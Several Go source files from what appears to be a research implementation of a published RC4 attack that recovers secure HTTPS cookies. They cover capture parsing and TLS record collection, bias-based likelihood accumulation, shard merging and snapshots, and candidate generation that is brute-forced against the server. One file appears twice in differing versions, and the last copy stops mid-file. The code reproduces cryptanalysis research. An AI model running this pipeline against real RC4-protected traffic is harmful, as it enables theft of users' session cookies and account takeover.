// to amortize that refill across many records (2048 records × ~258 anchors
// ≈ 528K table hits per 512 KB refill, a ~1.5% miss rate on a 2 MB L2)
// while keeping the flat copy buffer and the fold scratch a few MB — far
// inside the streaming-memory bound the round-trip tests pin. Evidence is
// bitwise independent of this value.
const foldBatch = 2048

// TraceStats reports what one ingest pass saw.
type TraceStats struct {
	// Bytes counts capture payload bytes handed up by the container parser
	// — the numerator of an ingest throughput figure.
	Bytes uint64
	// Packets counts container records; Segments counts parsed TCP
	// segments; Records counts complete TLS application-data records
	// across all flows.
	Packets, Segments, Records uint64
	// Matched counts records accepted as observations (the aligned
	// request length) — including ones skipped by a range bound;
	// OtherRecords counts application-data records of other lengths
	// (responses, pipelined odds and ends).
	Matched, OtherRecords uint64
	// SkippedPackets counts non-TCP traffic; Malformed counts packets
	// with truncated or inconsistent headers; DeadFlows counts flows
	// abandoned after TLS framing desynchronized mid-stream.
	SkippedPackets, Malformed, DeadFlows uint64
}

// flowScan is one TCP flow's TLS scanning state.
type flowScan struct {
	col       *tlsrec.CollectRequests
	lastOther uint64 // col.Other already folded into the collector stats
	dead      bool
}

// TraceCollector streams captures into an Attack; see tkip.TraceCollector
// for the range semantics (Start skips, Max bounds, zero Max = unbounded).
// A nil Attack runs the full parse/reassembly/scan pipeline without folding
// anything — the parse-only mode experiments use to split an ingest
// throughput figure into its parse-bound and fold-bound parts.
type TraceCollector struct {
	Attack *Attack
	// WantLen is the aligned request's encrypted record body length
	// (plaintext plus MAC) — netsim.HTTPSVictim.RecordPlaintextLen.
	WantLen int
	Start   uint64
	Max     uint64
	Stats   TraceStats

	accepted   uint64
	asm        trace.Assembler
	flows      map[trace.FlowKey]*flowScan
	observeErr error

	// In-range matched record bodies are copied (first plen bytes only)
	// into batch in capture order and folded foldBatch at a time through
	// Attack.ObserveRecords — bitwise identical to per-record folding for
	// any packet/segment/batch split. The copy is what lets the TLS scanner
	// hand out zero-copy views: the view dies with the callback, the batch
	// row survives until the fold.
	batch  []byte
	batchN int
	plen   int
}

// Done reports whether a bounded collector has filled its range.
func (c *TraceCollector) Done() bool {
	return c.Max != 0 && c.accepted >= c.Start+c.Max
}

// Ingest drains one capture stream into the attack, stopping early once a
// bounded range is filled. A latched fold error fails fast: once any record
// is rejected the rest of the capture cannot repair the evidence, so paying
// full parse cost for it would only delay the report.
func (c *TraceCollector) Ingest(r *trace.Reader) error {
	if c.flows == nil {
		c.flows = make(map[trace.FlowKey]*flowScan)
	}
	for !c.Done() {
		if c.observeErr != nil {
			return c.observeErr
		}
		pkt, err := r.Next()
		if err == io.EOF {
			return nil
		}
		if err != nil {
			return err
		}
		c.Stats.Packets++
		c.Stats.Bytes += uint64(len(pkt.Data))
		seg, err := trace.ParseTCPPacket(pkt.LinkType, pkt.Data)
		switch {
		case err == nil:
		case errors.Is(err, trace.ErrNotTCP):
			c.Stats.SkippedPackets++
			continue
		default:
			var lte *trace.LinkTypeError
			if errors.As(err, &lte) {
				return err // the whole capture is the wrong shape
			}
			c.Stats.Malformed++
			continue
		}
		c.Stats.Segments++
		if err := c.asm.Push(seg, c.deliver); err != nil {
			if errors.Is(err, trace.ErrReassemblyWindow) {
				// The assembler abandoned this flow (an unfillable capture
				// hole). Same containment policy as a TLS desync: count
				// the casualty, keep ingesting the other flows.
				c.markDead(seg.Key)
				continue
			}
			return err
		}
	}
	return nil
}

// markDead abandons one flow's TLS scanning and counts it.
func (c *TraceCollector) markDead(key trace.FlowKey) {
	fs := c.flows[key]
	if fs == nil {
		fs = &flowScan{col: &tlsrec.CollectRequests{WantLen: c.WantLen}}
		c.flows[key] = fs
	}
	if !fs.dead {
		fs.dead = true
		c.Stats.DeadFlows++
	}
}

// Flush drains flows whose origin was never pinned by a SYN (mid-stream
// captures) and folds the final partial batch. Call it once after the last
// Ingest.
func (c *TraceCollector) Flush() error {
	if err := c.asm.Flush(c.deliver); err != nil {
		return err
	}
	c.flushBatch()
	return c.observeErr
}

// deliver feeds one flow's contiguous stream bytes into its TLS scanner.
func (c *TraceCollector) deliver(key trace.FlowKey, data []byte) error {
	fs := c.flows[key]
	if fs == nil {
		fs = &flowScan{col: &tlsrec.CollectRequests{WantLen: c.WantLen}}
		c.flows[key] = fs
	}
	if fs.dead {
		return nil
	}
	err := fs.col.FeedBatch(data, c.observeBodies)
	otherDelta := fs.col.Other - fs.lastOther
	fs.lastOther = fs.col.Other
	c.Stats.Records += otherDelta
	c.Stats.OtherRecords += otherDelta
	if err != nil {
		// TLS framing lost on this flow (mid-stream capture start, or a
		// desynchronized stream): abandon the flow rather than poisoning
		// the pool; other flows keep scanning.
		c.markDead(key)
	}
	return nil
}

// observeBodies walks one chunk of matched record bodies in stream order:
// range accounting stays per record (so lane bounds land on exactly the
// same records as the per-record path), and in-range bodies are copied into
// the fold batch.
func (c *TraceCollector) observeBodies(bodies [][]byte) {
	for _, body := range bodies {
		c.Stats.Records++
		c.Stats.Matched++
		idx := c.accepted
		c.accepted++
		if idx < c.Start || (c.Max != 0 && idx >= c.Start+c.Max) {
			continue // outside this collector's observation range
		}
		if c.Attack == nil || c.observeErr != nil {
			continue
		}
		if len(body) < len(c.Attack.cfg.Plaintext) {
			// Same rejection ObserveRecord makes; latched here so the batch
			// never mixes well-formed and short rows.
			c.observeErr = errors.New("cookieattack: record shorter than modeled plaintext")
			continue
		}
		c.appendToBatch(body)
	}
}

// appendToBatch copies the modeled prefix of one record body into the fold
// batch, folding the batch once full.
func (c *TraceCollector) appendToBatch(body []byte) {
	if c.batch == nil {
		c.plen = len(c.Attack.cfg.Plaintext)
		c.batch = make([]byte, foldBatch*c.plen)
	}
	copy(c.batch[c.batchN*c.plen:(c.batchN+1)*c.plen], body)
	c.batchN++
	if c.batchN == foldBatch {
		c.flushBatch()
	}
}

// flushBatch folds the pending batch rows in capture order.
func (c *TraceCollector) flushBatch() {
	if c.batchN == 0 {
		return
	}
	n := c.batchN
	c.batchN = 0
	if err := c.Attack.ObserveRecords(c.batch, n, c.plen); err != nil && c.observeErr == nil {
		c.observeErr = err
	}
}

// CollectTraceReaders ingests a sequence of capture streams (one reader
// per file, in order) into the attack. start skips observations already
// held (a resume, or earlier lanes); max bounds the newly observed count
// (0 = everything); strict demands the full range be present — the fleet
// lane contract.
func CollectTraceReaders(a *Attack, wantLen int, readers []io.Reader, start, max uint64, strict bool) (TraceStats, error) {
	return collectTrace(a, wantLen, trace.ReaderSources(readers), start, max, strict)
}

// CollectTraceFiles is CollectTraceReaders over capture files on disk.
func CollectTraceFiles(a *Attack, wantLen int, paths []string, start, max uint64, strict bool) (TraceStats, error) {
	return collectTrace(a, wantLen, trace.FileSources(paths), start, max, strict)
}

// collectTrace is the one ingest loop behind both entry points.
func collectTrace(a *Attack, wantLen int, sources []trace.Source, start, max uint64, strict bool) (TraceStats, error) {
	c := &TraceCollector{Attack: a, WantLen: wantLen, Start: start, Max: max}
	err := trace.EachSource(sources, c.Done, c.Ingest)
	if err != nil {
		return c.Stats, err
	}
	if err := c.Flush(); err != nil {
		return c.Stats, err
	}
	if strict && !c.Done() {
		return c.Stats, fmt.Errorf("%w: have %d matching records, range needs %d",
			ErrTraceShort, c.accepted, start+max)
	}
	return c.Stats, nil
}
