package cookieattack

import (
	"errors"
	"fmt"
	"io"

	"rc4break/internal/snapshot"
)

// SnapshotKind tags cookie-attack evidence snapshots inside the shared
// envelope format.
const SnapshotKind = "rc4break.cookieattack.attack.v1"

// attackState is the gob payload of an attack snapshot: the full
// configuration (so a resume rebuilds the anchors without external input),
// the config fingerprint (so merges across mismatched layouts are rejected
// before any counter is touched), and the accumulated evidence.
type attackState struct {
	Config      Config
	Fingerprint [16]byte
	Stream      snapshot.StreamInfo
	FM          [][]uint64
	ABSAB       [][]float64
	Records     uint64
}

// configFingerprint digests the request layout every shard must share for
// its evidence to be mergeable.
func configFingerprint(cfg Config) ([16]byte, error) {
	return snapshot.Fingerprint(cfg)
}

// Fingerprint identifies the attack's configuration; two attacks merge only
// if their fingerprints match.
func (a *Attack) Fingerprint() [16]byte { return a.fp }

// WriteSnapshot persists the attack's evidence as one checksummed envelope.
// Snapshots are safe to take mid-capture: together with ReadSnapshot they
// implement the checkpoint/resume cycle, and with Merge the multi-shard
// collection workflow.
func (a *Attack) WriteSnapshot(w io.Writer) error {
	return snapshot.WriteGob(w, SnapshotKind, a.state())
}

// WriteSnapshotFile atomically persists the attack's evidence at path.
func (a *Attack) WriteSnapshotFile(path string) error {
	return snapshot.WriteFileGob(path, SnapshotKind, a.state())
}

func (a *Attack) state() attackState {
	return attackState{
		Config:      a.cfg,
		Fingerprint: a.fp,
		Stream:      a.Stream,
		FM:          a.fm,
		ABSAB:       a.absab,
		Records:     a.Records,
	}
}

// ReadSnapshot reconstructs an attack from a snapshot written by
// WriteSnapshot: the embedded config rebuilds the anchor layout through New,
// then the persisted evidence replaces the fresh accumulators after shape
// and fingerprint validation.
func ReadSnapshot(r io.Reader) (*Attack, error) {
	var st attackState
	if err := snapshot.ReadGob(r, SnapshotKind, &st); err != nil {
		return nil, err
	}
	return attackFromState(st)
}

// ReadSnapshotFile loads an attack snapshot from path.
func ReadSnapshotFile(path string) (*Attack, error) {
	var st attackState
	if err := snapshot.ReadFileGob(path, SnapshotKind, &st); err != nil {
		return nil, err
	}
	return attackFromState(st)
}

func attackFromState(st attackState) (*Attack, error) {
	a, err := New(st.Config)
	if err != nil {
		return nil, fmt.Errorf("cookieattack: snapshot config invalid: %w", err)
	}
	if a.fp != st.Fingerprint {
		return nil, errors.New("cookieattack: snapshot fingerprint does not match its config")
	}
	if len(st.FM) != a.chain || len(st.ABSAB) != a.chain {
		return nil, errors.New("cookieattack: snapshot evidence shape mismatch")
	}
	for r := 0; r < a.chain; r++ {
		if len(st.FM[r]) != 65536 || len(st.ABSAB[r]) != 65536 {
			return nil, errors.New("cookieattack: snapshot evidence shape mismatch")
		}
	}
	a.fm = st.FM
	a.absab = st.ABSAB
	a.Records = st.Records
	a.Stream = st.Stream
	return a, nil
}

// Merge folds another shard's evidence into the receiver. Both shards must
// have been captured against the same request layout: configs are compared
// by fingerprint and the merge is rejected on mismatch, so independently
// collected shards (different machines, seeds, or capture windows) combine
// into one evidence pool exactly as if a single process had observed every
// record.
func (a *Attack) Merge(o *Attack) error {
	if o == nil {
		return errors.New("cookieattack: nil merge source")
	}
	if a.fp != o.fp {
		return errors.New("cookieattack: cannot merge shards with different configs (fingerprint mismatch)")
	}
	for r := 0; r < a.chain; r++ {
		dst, src := a.fm[r], o.fm[r]
		for i, v := range src {
			dst[i] += v
		}
		fdst, fsrc := a.absab[r], o.absab[r]
		for i, v := range fsrc {
			fdst[i] += v
		}
	}
	a.Records += o.Records
	return nil
}
