// Package cookieattack implements the §6 attack: decrypting a secure HTTPS
// cookie from many RC4-encrypted copies of a manipulated request. The
// attacker knows every plaintext byte of the request except the cookie
// value (§6.1/httpmodel), collects ciphertext digraph statistics at the
// cookie positions (for the Fluhrer–McGrew likelihoods) and ciphertext
// differentials against known-plaintext anchor pairs on both sides (for
// Mantin's ABSAB likelihoods, §4.2), combines them per eq. 25, and
// generates a cookie candidate list with Algorithm 2 restricted to the
// RFC 6265 cookie alphabet (§6.2). The candidate list is then brute-forced
// against the server.
package cookieattack

import (
	"errors"
	"math"
	"math/rand"

	"rc4break/internal/biases"
	"rc4break/internal/dataset"
	"rc4break/internal/recovery"
	"rc4break/internal/snapshot"
)

// Config describes the attacked request layout.
type Config struct {
	// CookieLen is the unknown cookie length (16 in the paper's setup).
	CookieLen int
	// Offset is the 0-based byte offset of the cookie within the record
	// plaintext.
	Offset int
	// Plaintext is the full record plaintext with the cookie bytes at
	// Offset..Offset+CookieLen-1 treated as unknown (their values in this
	// slice are ignored by the attack; tests may fill them arbitrarily).
	Plaintext []byte
	// CounterBase is the PRGA counter i at the chain's first byte (the
	// known byte immediately before the cookie). On a persistent
	// connection with fixed-size records this is constant across records —
	// the §6.3 alignment requirement.
	CounterBase int
	// MaxGap bounds the ABSAB gaps used on each side (the paper uses 128).
	MaxGap int
	// Charset restricts candidate cookie bytes; nil means the RFC 6265
	// set is NOT applied and all 256 values are allowed.
	Charset []byte
}

// anchor is one usable ABSAB anchor for one chain pair: a known plaintext
// pair at a fixed distance from the unknown pair.
type anchor struct {
	q   int // 0-based plaintext offset of the anchor pair's first byte
	gap int
	w   float64
	k1  byte
	k2  byte
}

// Attack accumulates ciphertext evidence.
type Attack struct {
	cfg     Config
	fp      [16]byte    // config fingerprint: guards Merge and snapshot resume
	chain   int         // number of pair-likelihood links = CookieLen + 1
	fm      [][]uint64  // [chain][65536] ciphertext digraph counts
	absab   [][]float64 // [chain][65536] accumulated ABSAB weights per candidate pair
	anchors [][]anchor  // per chain link
	Records uint64
	// Workers bounds the parallelism of SimulateStatistics; 0 means
	// GOMAXPROCS. Results are bitwise identical for any value.
	Workers int
	// Stream, when set by a capture driver, records which stream the
	// evidence came from; it rides along in snapshots so an exact-mode
	// resume against a different stream can be rejected.
	Stream snapshot.StreamInfo

	// Decode-path scratch, reused across rounds: the online runtime decodes
	// at every cadence point, so the 17 half-megabyte likelihood tables and
	// the list-Viterbi N-best tables must not be rebuilt from scratch each
	// time. Both are recomputed from the evidence on every call — only the
	// allocations persist — so reuse never changes a result bit.
	lk      []*recovery.PairLikelihoods
	decoder recovery.PairDecoder
}

// New validates the configuration and prepares the evidence accumulators.
func New(cfg Config) (*Attack, error) {
	if cfg.CookieLen <= 0 {
		return nil, errors.New("cookieattack: cookie length must be positive")
	}
	if cfg.Offset < 1 || cfg.Offset+cfg.CookieLen >= len(cfg.Plaintext) {
		return nil, errors.New("cookieattack: cookie must have known plaintext on both sides")
	}
	if cfg.MaxGap < 0 {
		return nil, errors.New("cookieattack: negative max gap")
	}
	if cfg.CounterBase < 0 || cfg.CounterBase > 255 {
		return nil, errors.New("cookieattack: counter base must be 0..255")
	}
	fp, err := configFingerprint(cfg)
	if err != nil {
		return nil, err
	}
	a := &Attack{
		cfg:     cfg,
		fp:      fp,
		chain:   cfg.CookieLen + 1,
		fm:      make([][]uint64, cfg.CookieLen+1),
		absab:   make([][]float64, cfg.CookieLen+1),
		anchors: make([][]anchor, cfg.CookieLen+1),
	}
	known := func(j int) bool {
		return j >= 0 && j < len(cfg.Plaintext) && (j < cfg.Offset || j >= cfg.Offset+cfg.CookieLen)
	}
	for r := 0; r < a.chain; r++ {
		a.fm[r] = make([]uint64, 65536)
		a.absab[r] = make([]float64, 65536)
		p := cfg.Offset - 1 + r // first byte of the unknown-side pair
		// Forward anchors: known pair g bytes after the unknown pair.
		for g := 0; g <= cfg.MaxGap; g++ {
			q := p + 2 + g
			if q+1 >= len(cfg.Plaintext) {
				break
			}
			if known(q) && known(q+1) {
				a.anchors[r] = append(a.anchors[r], anchor{
					q: q, gap: g, w: recovery.ABSABWeight(g),
					k1: cfg.Plaintext[q], k2: cfg.Plaintext[q+1],
				})
			}
		}
		// Backward anchors: known pair g bytes before the unknown pair.
		for g := 0; g <= cfg.MaxGap; g++ {
			q := p - 2 - g
			if q < 0 {
				break
			}
			if known(q) && known(q+1) {
				a.anchors[r] = append(a.anchors[r], anchor{
					q: q, gap: g, w: recovery.ABSABWeight(g),
					k1: cfg.Plaintext[q], k2: cfg.Plaintext[q+1],
				})
			}
		}
	}
	return a, nil
}

// AnchorsPerPair reports how many ABSAB anchors each chain link uses — the
// paper's "2·129 ABSAB biases" when known plaintext is ample on both sides.
func (a *Attack) AnchorsPerPair() []int {
	out := make([]int, a.chain)
	for r := range a.anchors {
		out[r] = len(a.anchors[r])
	}
	return out
}

// ObserveRecord folds one encrypted record body (RC4 ciphertext of the
// aligned request plaintext) into the statistics.
func (a *Attack) ObserveRecord(body []byte) error {
	if len(body) < len(a.cfg.Plaintext) {
		return errors.New("cookieattack: record shorter than modeled plaintext")
	}
	for r := 0; r < a.chain; r++ {
		p := a.cfg.Offset - 1 + r
		a.fm[r][int(body[p])*256+int(body[p+1])]++
		tbl := a.absab[r]
		for _, an := range a.anchors[r] {
			d1 := body[p] ^ body[an.q]
			d2 := body[p+1] ^ body[an.q+1]
			// Supported candidate pair: µ = Ĉ ⊕ known anchor plaintext.
			tbl[int(d1^an.k1)*256+int(d2^an.k2)] += an.w
		}
	}
	a.Records++
	return nil
}

// Likelihoods combines the FM and ABSAB evidence into one pair-likelihood
// chain (eq. 25). Chain link r covers plaintext positions
// (Offset-1+r, Offset+r). The chain links are independent, so the pass
// fans them over the Workers pool (bitwise identical for any worker
// count), and the 17 tables are reused across calls — the online runtime
// re-runs this at every decode point. The returned slice aliases the
// attack's scratch: it is valid until the next Likelihoods call.
func (a *Attack) Likelihoods() ([]*recovery.PairLikelihoods, error) {
	if a.lk == nil {
		a.lk = make([]*recovery.PairLikelihoods, a.chain)
		for r := range a.lk {
			a.lk[r] = new(recovery.PairLikelihoods)
		}
	}
	err := dataset.ForShards(a.Workers, a.chain, func(r int) error {
		i := (a.cfg.CounterBase + r) % 256
		lk := a.lk[r]
		if err := recovery.FMPairLikelihoodsInto(lk, a.fm[r], i); err != nil {
			return err
		}
		for c, w := range a.absab[r] {
			lk[c] += w
		}
		return nil
	})
	if err != nil {
		return nil, err
	}
	return a.lk, nil
}

// Candidates generates the n most likely cookies (full values, without the
// surrounding known bytes) via Algorithm 2, reusing the attack's likelihood
// tables and list-Viterbi decoder across calls.
func (a *Attack) Candidates(n int) ([]recovery.Candidate, error) {
	lks, err := a.Likelihoods()
	if err != nil {
		return nil, err
	}
	m1 := a.cfg.Plaintext[a.cfg.Offset-1]
	mL := a.cfg.Plaintext[a.cfg.Offset+a.cfg.CookieLen]
	a.decoder.Workers = a.Workers
	cands, err := a.decoder.Decode(lks, m1, mL, n, a.cfg.Charset)
	if err != nil {
		return nil, err
	}
	// Strip the anchors: the caller wants cookie values.
	for i := range cands {
		cands[i].Plaintext = cands[i].Plaintext[1 : a.cfg.CookieLen+1]
	}
	return cands, nil
}

// Observed reports the records folded into the evidence pool — the
// online runtime's progress counter.
func (a *Attack) Observed() uint64 { return a.Records }

// Decode generates up to max ranked cookie candidates from the current
// evidence — the online runtime's decode step.
func (a *Attack) Decode(max int) (recovery.CandidateSource, error) {
	cands, err := a.Candidates(max)
	if err != nil {
		return nil, err
	}
	return recovery.SliceSource(cands), nil
}

// WalkCandidates walks an already-generated candidate list, calling check
// until it accepts; it returns the accepted value and its 1-based list
// position. This is the oracle half of BruteForce, split from candidate
// generation so one enumeration can serve several oracle passes (the
// online loop decodes once per round and walks the result).
func WalkCandidates(cands []recovery.Candidate, check func([]byte) bool) ([]byte, int, error) {
	for i, c := range cands {
		if check(c.Plaintext) {
			return c.Plaintext, i + 1, nil
		}
	}
	return nil, 0, errors.New("cookieattack: cookie not in candidate list")
}

// BruteForce generates the n most likely cookies and walks them against
// check (e.g. an HTTPS request presenting the cookie) — the §6.2
// negligible-time brute-force, composed from Candidates and WalkCandidates.
func (a *Attack) BruteForce(n int, check func([]byte) bool) ([]byte, int, error) {
	cands, err := a.Candidates(n)
	if err != nil {
		return nil, 0, err
	}
	return WalkCandidates(cands, check)
}

// SimulateStatistics fills the evidence tables by drawing sufficient
// statistics for nRecords model-mode records directly, instead of
// constructing each record (the paper's Figures 7 and 10 are simulations in
// the same sense — at 2^39 ciphertexts per point no testbed generates them
// one by one):
//
//   - FM digraph histograms: per-cell normal approximation of the
//     multinomial over the Fluhrer–McGrew distribution at the link's PRGA
//     counter, XOR-shifted by the true plaintext pair.
//   - ABSAB evidence: per anchor, the number of keystream-digraph
//     coincidences is Binomial(nRecords, β(g)); coincidences support the
//     true pair, non-coincidences spread uniformly. Both are sampled with
//     normal approximations, aggregated per cell across anchors.
//
// truth is the true cookie value.
//
// The chain links are statistically independent, so the simulation fans out
// over them with the engine's shard/queue pattern: each link draws from its
// own RNG (seeded up front from rng, in link order) and writes only its own
// fm/absab tables. The result is bitwise identical for any Workers value —
// one worker reproduces exactly what sixteen produce.
func (a *Attack) SimulateStatistics(rng *rand.Rand, truth []byte, nRecords uint64) error {
	if len(truth) != a.cfg.CookieLen {
		return errors.New("cookieattack: truth length mismatch")
	}
	chainBytes := make([]byte, a.chain+1)
	chainBytes[0] = a.cfg.Plaintext[a.cfg.Offset-1]
	copy(chainBytes[1:], truth)
	chainBytes[a.chain] = a.cfg.Plaintext[a.cfg.Offset+a.cfg.CookieLen]

	seeds := make([]int64, a.chain)
	for r := range seeds {
		seeds[r] = rng.Int63()
	}
	err := dataset.ForShards(a.Workers, a.chain, func(r int) error {
		a.simulateLink(rand.New(rand.NewSource(seeds[r])), r, chainBytes[r], chainBytes[r+1], float64(nRecords))
		return nil
	})
	if err != nil {
		return err
	}
	a.Records += nRecords
	return nil
}

// simulateLink draws the sufficient statistics of one chain link. It only
// touches link-local state, which is what lets SimulateStatistics run the
// links concurrently.
func (a *Attack) simulateLink(rng *rand.Rand, r int, pt1, pt2 byte, n float64) {
	i := (a.cfg.CounterBase + r) % 256
	// FM histogram: cell (c1,c2) sees keystream digraph (c1⊕pt1, c2⊕pt2).
	dist := biases.FMDistribution(i)
	hist := a.fm[r]
	for c1 := 0; c1 < 256; c1++ {
		z1 := c1 ^ int(pt1)
		for c2 := 0; c2 < 256; c2++ {
			mean := n * dist[z1*256+(c2^int(pt2))]
			v := mean + math.Sqrt(mean)*rng.NormFloat64()
			if v < 0 {
				v = 0
			}
			hist[c1*256+c2] += uint64(v + 0.5)
		}
	}
	// ABSAB: aggregate hit weight on the true cell, aggregate miss
	// noise across all cells.
	var hitW, missMean, missVar float64
	for _, an := range a.anchors[r] {
		beta := biases.ABSABCopyProb(an.gap)
		mean := n * beta
		hits := mean + math.Sqrt(mean*(1-beta))*rng.NormFloat64()
		if hits < 0 {
			hits = 0
		}
		hitW += hits * an.w
		misses := n - hits
		missMean += an.w * misses / 65536
		missVar += an.w * an.w * misses / 65536
	}
	tbl := a.absab[r]
	sd := math.Sqrt(missVar)
	for c := range tbl {
		v := missMean + sd*rng.NormFloat64()
		if v < 0 {
			v = 0
		}
		tbl[c] += v
	}
	tbl[int(pt1)*256+int(pt2)] += hitW
}
