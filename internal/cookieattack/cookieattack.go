// Package cookieattack implements the §6 attack: decrypting a secure HTTPS
// cookie from many RC4-encrypted copies of a manipulated request. The
// attacker knows every plaintext byte of the request except the cookie
// value (§6.1/httpmodel), collects ciphertext digraph statistics at the
// cookie positions (for the Fluhrer–McGrew likelihoods) and ciphertext
// differentials against known-plaintext anchor pairs on both sides (for
// Mantin's ABSAB likelihoods, §4.2), combines them per eq. 25, and
// generates a cookie candidate list with Algorithm 2 restricted to the
// RFC 6265 cookie alphabet (§6.2). The candidate list is then brute-forced
// against the server.
package cookieattack

import (
	"errors"
	"math"
	"math/rand"

	"rc4break/internal/biases"
	"rc4break/internal/dataset"
	"rc4break/internal/recovery"
	"rc4break/internal/snapshot"
)

// Config describes the attacked request layout.
type Config struct {
	// CookieLen is the unknown cookie length (16 in the paper's setup).
	CookieLen int
	// Offset is the 0-based byte offset of the cookie within the record
	// plaintext.
	Offset int
	// Plaintext is the full record plaintext with the cookie bytes at
	// Offset..Offset+CookieLen-1 treated as unknown (their values in this
	// slice are ignored by the attack; tests may fill them arbitrarily).
	Plaintext []byte
	// CounterBase is the PRGA counter i at the chain's first byte (the
	// known byte immediately before the cookie). On a persistent
	// connection with fixed-size records this is constant across records —
	// the §6.3 alignment requirement.
	CounterBase int
	// MaxGap bounds the ABSAB gaps used on each side (the paper uses 128).
	MaxGap int
	// Charset restricts candidate cookie bytes; nil means the RFC 6265
	// set is NOT applied and all 256 values are allowed.
	Charset []byte
}

// anchor is one usable ABSAB anchor for one chain pair: a known plaintext
// pair at a fixed distance from the unknown pair.
type anchor struct {
	q   int // 0-based plaintext offset of the anchor pair's first byte
	gap int
	w   float64
	k1  byte
	k2  byte
}

// foldRun is one maximal run of anchors at consecutive v-row offsets:
// anchor j of the run sits at offset q0+j (ascending) or q0-j (down), with
// weight ws[j].
type foldRun struct {
	q0   int32
	down bool
	ws   []float64
}

// Attack accumulates ciphertext evidence.
type Attack struct {
	cfg     Config
	fp      [16]byte    // config fingerprint: guards Merge and snapshot resume
	chain   int         // number of pair-likelihood links = CookieLen + 1
	fm      [][]uint64  // [chain][65536] ciphertext digraph counts
	absab   [][]float64 // [chain][65536] accumulated ABSAB weights per candidate pair
	anchors [][]anchor  // per chain link
	// Batched-fold plan: anchors[r] split into maximal runs of consecutive
	// v-row offsets (see vbuf) so the ObserveRecords inner loop walks the
	// row sequentially instead of through an index indirection. With one
	// unknown region the anchors always form exactly two runs — the forward
	// side ascending, the backward side descending — but the split is
	// general, so any anchor layout folds correctly. Run order and
	// within-run order are anchors[r] order — the fold order ObserveRecord
	// uses, which the batched path must reproduce exactly (float addition
	// is not associative).
	foldRuns [][]foldRun
	// vbuf is ObserveRecords scratch: per-record pair-words over the anchor
	// window — vbuf row cell j holds (e[vlo+j]<<8 | e[vlo+j+1]) with
	// e[q] = body[q]^pt[q] — shared by all chain links of a batch, so the
	// fold inner loop is one uint16 load, one XOR, one table add. Rows cover
	// only [vlo, vlo+vw] (the span all links' anchors touch), not the whole
	// plaintext; anchors cluster around the cookie, so the hot window is a
	// fraction of the record and stays L2-resident alongside the active
	// table. Only the allocation persists across calls.
	vbuf    []uint16
	vlo, vw int
	Records uint64
	// Workers bounds the parallelism of SimulateStatistics; 0 means
	// GOMAXPROCS. Results are bitwise identical for any value.
	Workers int
	// Stream, when set by a capture driver, records which stream the
	// evidence came from; it rides along in snapshots so an exact-mode
	// resume against a different stream can be rejected.
	Stream snapshot.StreamInfo

	// Decode-path scratch, reused across rounds: the online runtime decodes
	// at every cadence point, so the 17 half-megabyte likelihood tables and
	// the list-Viterbi N-best tables must not be rebuilt from scratch each
	// time. Both are recomputed from the evidence on every call — only the
	// allocations persist — so reuse never changes a result bit.
	lk      []*recovery.PairLikelihoods
	decoder recovery.PairDecoder
}

// New validates the configuration and prepares the evidence accumulators.
func New(cfg Config) (*Attack, error) {
	if cfg.CookieLen <= 0 {
		return nil, errors.New("cookieattack: cookie length must be positive")
	}
	if cfg.Offset < 1 || cfg.Offset+cfg.CookieLen >= len(cfg.Plaintext) {
		return nil, errors.New("cookieattack: cookie must have known plaintext on both sides")
	}
	if cfg.MaxGap < 0 {
		return nil, errors.New("cookieattack: negative max gap")
	}
	if cfg.CounterBase < 0 || cfg.CounterBase > 255 {
		return nil, errors.New("cookieattack: counter base must be 0..255")
	}
	fp, err := configFingerprint(cfg)
	if err != nil {
		return nil, err
	}
	a := &Attack{
		cfg:     cfg,
		fp:      fp,
		chain:   cfg.CookieLen + 1,
		fm:      make([][]uint64, cfg.CookieLen+1),
		absab:   make([][]float64, cfg.CookieLen+1),
		anchors: make([][]anchor, cfg.CookieLen+1),
	}
	known := func(j int) bool {
		return j >= 0 && j < len(cfg.Plaintext) && (j < cfg.Offset || j >= cfg.Offset+cfg.CookieLen)
	}
	for r := 0; r < a.chain; r++ {
		a.fm[r] = make([]uint64, 65536)
		a.absab[r] = make([]float64, 65536)
		p := cfg.Offset - 1 + r // first byte of the unknown-side pair
		// Forward anchors: known pair g bytes after the unknown pair.
		for g := 0; g <= cfg.MaxGap; g++ {
			q := p + 2 + g
			if q+1 >= len(cfg.Plaintext) {
				break
			}
			if known(q) && known(q+1) {
				a.anchors[r] = append(a.anchors[r], anchor{
					q: q, gap: g, w: recovery.ABSABWeight(g),
					k1: cfg.Plaintext[q], k2: cfg.Plaintext[q+1],
				})
			}
		}
		// Backward anchors: known pair g bytes before the unknown pair.
		for g := 0; g <= cfg.MaxGap; g++ {
			q := p - 2 - g
			if q < 0 {
				break
			}
			if known(q) && known(q+1) {
				a.anchors[r] = append(a.anchors[r], anchor{
					q: q, gap: g, w: recovery.ABSABWeight(g),
					k1: cfg.Plaintext[q], k2: cfg.Plaintext[q+1],
				})
			}
		}
	}
	// The anchor window: the span of plaintext positions any link's anchors
	// read. foldRun offsets are rebased to it so the batched fold only
	// builds (and streams) pair-words for positions that are actually used.
	a.vlo, a.vw = len(cfg.Plaintext), 0
	vhi := -1
	for r := 0; r < a.chain; r++ {
		for _, an := range a.anchors[r] {
			a.vlo = min(a.vlo, an.q)
			vhi = max(vhi, an.q)
		}
	}
	if vhi >= a.vlo {
		a.vw = vhi - a.vlo + 1
	} else {
		a.vlo = 0
	}
	a.foldRuns = make([][]foldRun, a.chain)
	for r := 0; r < a.chain; r++ {
		a.foldRuns[r] = splitFoldRuns(a.anchors[r], a.vlo)
	}
	return a, nil
}

// splitFoldRuns greedily groups anchors into maximal consecutive-offset
// runs, preserving anchor order, with offsets rebased to the anchor window
// start vlo. A run's direction is fixed by its second element; single
// anchors close as ascending runs.
func splitFoldRuns(anchors []anchor, vlo int) []foldRun {
	var runs []foldRun
	for i := 0; i < len(anchors); {
		run := foldRun{q0: int32(anchors[i].q - vlo), ws: []float64{anchors[i].w}}
		j := i + 1
		if j < len(anchors) {
			switch anchors[j].q {
			case anchors[i].q + 1:
			case anchors[i].q - 1:
				run.down = true
			default:
				j = i // no extension
			}
		}
		if j > i {
			step := 1
			if run.down {
				step = -1
			}
			for ; j < len(anchors) && anchors[j].q == anchors[j-1].q+step; j++ {
				run.ws = append(run.ws, anchors[j].w)
			}
			i = j
		} else {
			i++
		}
		runs = append(runs, run)
	}
	return runs
}

// AnchorsPerPair reports how many ABSAB anchors each chain link uses — the
// paper's "2·129 ABSAB biases" when known plaintext is ample on both sides.
func (a *Attack) AnchorsPerPair() []int {
	out := make([]int, a.chain)
	for r := range a.anchors {
		out[r] = len(a.anchors[r])
	}
	return out
}

// ObserveRecord folds one encrypted record body (RC4 ciphertext of the
// aligned request plaintext) into the statistics.
